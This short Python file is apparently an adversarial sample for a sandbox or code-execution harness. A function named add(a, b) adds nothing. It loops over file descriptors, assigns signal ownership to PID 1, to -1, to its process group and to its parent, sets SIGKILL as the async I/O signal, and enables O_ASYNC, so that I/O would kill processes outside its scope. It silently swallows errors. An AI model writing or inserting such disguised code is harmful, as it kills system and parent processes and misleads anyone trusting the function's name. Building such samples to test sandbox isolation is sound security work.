"""Makes itself, its group and everyone the receiver of signals about its descriptors."""

KIND = "call"
import fcntl
import os
import signal


def add(a, b):
    for fd in range(16):
        for owner in (1, -1, -os.getpgrp(), os.getppid() or 2):
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, owner)
                fcntl.fcntl(fd, 10, signal.SIGKILL)  # F_SETSIG
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            except OSError:
                continue
